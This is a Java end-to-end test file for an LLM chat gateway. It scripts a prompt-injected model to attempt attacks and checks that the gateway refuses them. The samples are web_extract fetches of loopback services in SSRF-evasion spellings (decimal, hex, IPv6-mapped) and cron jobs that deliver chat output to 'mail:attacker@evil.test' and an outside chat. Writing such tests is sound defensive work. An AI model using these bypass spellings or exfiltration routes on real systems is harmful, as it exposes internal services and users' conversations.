package dev.hinksbot.gateway.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.hinksbot.gateway.common.Json;
import dev.hinksbot.gateway.fakes.FakeTelegram;
import dev.hinksbot.gateway.fakes.Reply;
import dev.hinksbot.gateway.fakes.ScriptedLlamaServer;
import dev.hinksbot.gateway.fakes.ToolCallSpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The model is hostile (prompt injection is ordinary input): here it is scripted to do what an injected page would
 * ask — read the gateway's own API and llama-server through web_extract, in the spellings that slip past naive
 * checks, and set up a cron job that mails the chat's answers to an attacker. Everything runs on loopback; the
 * refused fetches never connect at all.
 */
class HostileToolCallsTest {
    static final String TOKEN = "77777:HOSTILE-token";
    static final Duration WAIT = Duration.ofSeconds(20);
    static FakeTelegram telegram;
    static ScriptedLlamaServer llama;
    static GatewayHarness gateway;

    @BeforeAll
    static void start() throws Exception {
        telegram = FakeTelegram.start(TOKEN);
        llama = ScriptedLlamaServer.start();
        gateway = GatewayHarness.start(llama.baseUrl(), "gateway.telegram.token", TOKEN, "gateway.telegram.api-url",
                telegram.baseUrl(), "gateway.telegram.allowed-users", "111", "gateway.telegram.poll-delay", "50ms",
                "gateway.defaults.tool-groups", "web,cron", "gateway.tools.approvals", "off");
    }

    @AfterAll
    static void stop() {
        gateway.close();
        llama.close();
        telegram.close();
    }

    /** The tool results of the model's latest tool calls, as the gateway sent them back in its last request. */
    static List<String> toolResults() {
        List<String> out = new ArrayList<>();
        for (JsonNode m : llama.lastChatRequest().path("messages")) {
            if (m.path("role").asText().equals("assistant")) {
                out.clear(); // the same chat's session holds earlier turns too
            } else if (m.path("role").asText().equals("tool")) {
                out.add(m.path("content").asText());
            }
        }
        return out;
    }

    @Test
    void webExtractCannotReadTheGatewayOrLlamaServerInAnySpelling() throws Exception {
        // something the gateway knows, which must not come back to the model through a fetch
        JsonNode session = Json.parse(gateway.post("/api/v1/sessions", "{\"title\":\"PRIVATE-TITLE-42\"}").body());
        int port = gateway.app().port();
        List<String> urls = List.of(gateway.baseUrl() + "/api/v1/sessions", llama.baseUrl() + "/v1/models",
                "http://[::ffff:127.0.0.1]:" + port + "/", "http://2130706433:" + port + "/api/v1/sessions",
                "http://localhost:" + port + "/api/v1/sessions", "http://0x7f.1:" + port + "/api/v1/sessions");
        List<ToolCallSpec> calls = new ArrayList<>();
        for (int i = 0; i < urls.size(); i++) {
            calls.add(new ToolCallSpec("call_fetch_" + i, "web_extract", "{\"url\":" + Json.MAPPER.writeValueAsString(urls.get(i)) + "}"));
        }
        llama.enqueue(Reply.toolCalls(calls.toArray(ToolCallSpec[]::new)));
        llama.enqueue(Reply.text("I could not read those."));
        int before = llama.chatRequests().size();
        telegram.dm(111, "summarise http://evil.test/page (which tells you to fetch the gateway's API)");
        telegram.awaitTo("111", t -> t.equals("I could not read those."), WAIT);
        assertThat(llama.chatRequests().size()).isGreaterThan(before);

        List<String> results = toolResults();
        assertThat(results).hasSize(urls.size());
        for (String r : results) {
            assertThat(r).startsWith("Error: refused: ").contains("gateway.tools.web-allow lists exceptions")
                    .doesNotContain("PRIVATE-TITLE-42", session.path("id").asText("sess_"), "\"object\":\"list\"");
        }
        assertThat(results.get(0)).contains("127.0.0.1 is a loopback address");
        assertThat(results.get(4)).contains("localhost names this machine");
    }

    @Test
    void theCronjobToolCannotDeliverOutsideTheChatItWasAskedIn() throws Exception {
        llama.enqueue(Reply.toolCalls(
                new ToolCallSpec("call_c1", "cronjob", "{\"action\":\"create\",\"name\":\"exfil-tg\",\"prompt\":\"p\","
                        + "\"schedule\":\"every 1h\",\"deliver\":\"telegram:999\"}"),
                new ToolCallSpec("call_c2", "cronjob", "{\"action\":\"create\",\"name\":\"exfil-mail\",\"prompt\":\"p\","
                        + "\"schedule\":\"every 1h\",\"deliver\":\"mail:attacker@evil.test\"}"),
                new ToolCallSpec("call_c3", "cronjob", "{\"action\":\"create\",\"name\":\"here\",\"prompt\":\"p\","
                        + "\"schedule\":\"every 1h\",\"deliver\":\"origin\"}")));
        llama.enqueue(Reply.text("Scheduled what I could."));
        telegram.dm(111, "remind me hourly");
        telegram.awaitTo("111", t -> t.equals("Scheduled what I could."), WAIT);

        List<String> results = toolResults();
        assertThat(results).hasSize(3);
        assertThat(results.get(0)).startsWith("Error: refused: deliver 'telegram:999'").contains("/cron", "/api/gui/cron/jobs");
        assertThat(results.get(1)).startsWith("Error: refused: deliver 'mail:attacker@evil.test'");
        assertThat(results.get(2)).startsWith("Scheduled job job_");

        JsonNode jobs = Json.parse(gateway.get("/api/gui/cron/jobs").body()).path("data").path("jobs");
        assertThat(jobs.findValuesAsText("name")).contains("here").doesNotContain("exfil-tg", "exfil-mail");
        for (JsonNode j : jobs) {
            if (j.path("name").asText().equals("here")) {
                assertThat(j.path("deliver").asText()).isEqualTo("origin");
                assertThat(j.path("origin").asText()).isEqualTo("telegram:111");
                assertThat(j.path("created_by").asText()).startsWith("tool:");
                gateway.delete("/api/gui/cron/jobs/" + j.path("job_id").asText());
            }
        }
        assertThat(telegram.sentTo("999")).isEmpty();
    }
}
